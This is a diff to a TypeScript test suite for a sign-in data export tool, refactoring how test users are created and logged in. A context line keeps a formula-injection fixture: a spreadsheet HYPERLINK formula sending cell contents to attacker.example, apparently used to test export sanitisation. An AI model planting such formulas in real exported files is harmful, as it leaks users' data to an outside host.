@@ -13,7 +13,7 @@ import { exportChunks, planExport, type ExportOptions } from '../src/export/expo
 import { CREDENTIAL_COLUMNS, DATASETS, GROUP_MEMBER_COLUMNS } from '../src/store/datasets.js';
 import { TEXT_COLUMNS } from '../src/store/signin-columns.js';
 import { createSignInRepo } from '../src/store/signins.js';
-import { startApp, T0, type TestApp } from './helpers/app.js';
+import { signedInUser, startApp, T0, type TestApp } from './helpers/app.js';
 import { DIALECTS, skipReason, tempDir } from './helpers/databases.js';
 import { ApiClient } from './helpers/http.js';
 import { storedSignIns } from './helpers/signins.js';
@@ -21,7 +21,6 @@ import { runIdsight } from './helpers/cli.js';
 import { simulatedCredentials, startTestSimulator, type TestSimulator } from './helpers/simulator.js';
 
 const DAY = 86_400_000;
-const PW = 'correct horse battery staple';
 const ISO_TIME = /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/;
 const FORMULA = '=HYPERLINK("https://attacker.example/?d="&A1,"Open")';
 
@@ -85,12 +84,8 @@ for (const dialect of DIALECTS)
       const outcomes = await app.ctx.collector.run(id);
       for (const o of outcomes) assert.equal(o.status, 'succeeded', `${o.dataType}: ${o.error ?? ''}`);
 
-      await app.ctx.auth.createUser({ email: 'analyst@example.com', role: 'analyst', password: PW });
-      await app.ctx.auth.createUser({ email: 'helpdesk@example.com', role: 'helpdesk', password: PW });
-      analyst = new ApiClient(app.url);
-      helpdesk = new ApiClient(app.url);
-      assert.equal((await analyst.login('analyst@example.com', PW)).status, 200);
-      assert.equal((await helpdesk.login('helpdesk@example.com', PW)).status, 200);
+      analyst = await signedInUser(app, 'analyst');
+      helpdesk = await signedInUser(app, 'helpdesk');
     });
     after(async () => {
       await app?.close();
